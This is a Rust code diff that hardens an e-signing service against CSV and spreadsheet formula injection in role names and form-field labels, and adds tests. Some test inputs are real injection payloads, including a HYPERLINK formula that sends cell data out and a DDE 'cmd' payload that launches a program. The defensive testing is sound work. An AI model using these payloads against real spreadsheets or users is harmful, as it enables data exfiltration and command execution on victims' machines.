@@ -28,7 +28,8 @@ use crate::{
     },
     wire::{
         body::Parsed,
-        inputs::{self, RecipientInput, SendInput, SendRequest, has_control_chars},
+        inputs::{self, RecipientInput, SendInput, SendRequest},
+        spreadsheet,
         templates::{
             FieldMarkInput, InstantiateInput, TemplateFieldInput, TemplateInput, TemplateRoleInput,
             TemplateUpdateInput,
@@ -36,8 +37,7 @@ use crate::{
     },
 };
 
-/// The most characters of a role's name.
-pub const MAX_ROLE_NAME_CHARS: usize = 100;
+pub use inputs::MAX_ROLE_NAME_CHARS;
 /// The most roles of a template, as the most recipients of a document.
 pub const MAX_ROLES: usize = inputs::MAX_RECIPIENTS_PER_DOCUMENT;
 const _: () = assert!(signet_pdf::MAX_TAGS == inputs::MAX_FIELDS_PER_DOCUMENT);
@@ -220,7 +220,12 @@ fn form_fields(
             field["type"].as_str().unwrap_or_default()
         );
         match serde_json::from_value::<TemplateFieldInput>(field) {
-            Ok(field) => fields.push(field),
+            Ok(mut field) => {
+                // The PDF's author named its fields, not the uploader: a name that would begin a
+                // CSV header cell with a formula start loses it (left blank, it is generated).
+                field.label = spreadsheet::without_formula_start(&field.label).to_owned();
+                fields.push(field);
+            }
             Err(e) => problems.invalid(format!("form[{i}]"), format!("{named}: {e}")),
         }
     }
@@ -434,12 +439,8 @@ pub(crate) fn new_roles(
     for (i, role) in input.into_iter().enumerate() {
         let at = format!("roles[{i}]");
         let name = role.name.trim().to_owned();
-        if name.is_empty() || has_control_chars(&name) || name.chars().count() > MAX_ROLE_NAME_CHARS
-        {
-            problems.invalid(
-                format!("{at}.name"),
-                format!("a role's name has 1 to {MAX_ROLE_NAME_CHARS} characters, without control characters"),
-            );
+        if let Err(reason) = inputs::check_role_name(&name) {
+            problems.invalid(format!("{at}.name"), reason);
         } else if roles.iter().any(|r| r.name == name) {
             problems.invalid(
                 format!("{at}.name"),
@@ -584,19 +585,24 @@ pub async fn create(
             .find(|(email, _)| email.eq_ignore_ascii_case(&recipient.email));
         let name = match given {
             Some((email, name)) => {
-                let name = name.trim();
-                if name.is_empty()
-                    || has_control_chars(name)
-                    || name.chars().count() > MAX_ROLE_NAME_CHARS
-                {
+                if let Err(reason) = inputs::check_role_name(name) {
+                    problems.invalid(format!("roles.{email}"), reason);
+                }
+                name.trim().to_owned()
+            }
+            None => {
+                let name: String = recipient.name.chars().take(MAX_ROLE_NAME_CHARS).collect();
+                if inputs::begins_like_formula_or_mark(&name) {
                     problems.invalid(
-                        format!("roles.{email}"),
-                        format!("a role's name has 1 to {MAX_ROLE_NAME_CHARS} characters, without control characters"),
+                        format!("roles.{}", recipient.email),
+                        format!(
+                            "{}: the recipient's name does; name their role in roles",
+                            inputs::ROLE_NAME_FORMULA_START
+                        ),
                     );
                 }
-                name.to_owned()
+                name
             }
-            None => recipient.name.chars().take(MAX_ROLE_NAME_CHARS).collect(),
         };
         if roles.iter().any(|r| r.name == name) {
             problems.invalid(
@@ -1221,6 +1227,37 @@ mod tests {
             check_label(&"é".repeat(100)).is_ok(),
             "characters, not bytes"
         );
+        assert_eq!(check_label("Net-Rent"), Ok("Net-Rent".into()));
+        for formula in ["-12", " -Rent", "-"] {
+            assert_eq!(
+                check_label(formula),
+                Err(inputs::LABEL_FORMULA_START.into()),
+                "{formula:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_role_name_does_not_begin_as_a_spreadsheet_formula() {
+        assert_eq!(inputs::check_role_name(" Tenant "), Ok("Tenant".into()));
+        for kept in ["O'Brien & Co", "Tenant = payer", "Role 1", "a-b", "x@y"] {
+            assert_eq!(inputs::check_role_name(kept), Ok(kept.into()));
+        }
+        for formula in [
+            r#"=HYPERLINK("http://x/"&A2)"#,
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1",
+            "-Tenant",
+            " =x",
+            "'Tis",
+        ] {
+            assert_eq!(
+                inputs::check_role_name(formula),
+                Err(inputs::ROLE_NAME_FORMULA_START.into()),
+                "{formula:?}"
+            );
+        }
+        assert!(inputs::check_role_name("\t\r").is_err());
     }
 
     #[test]
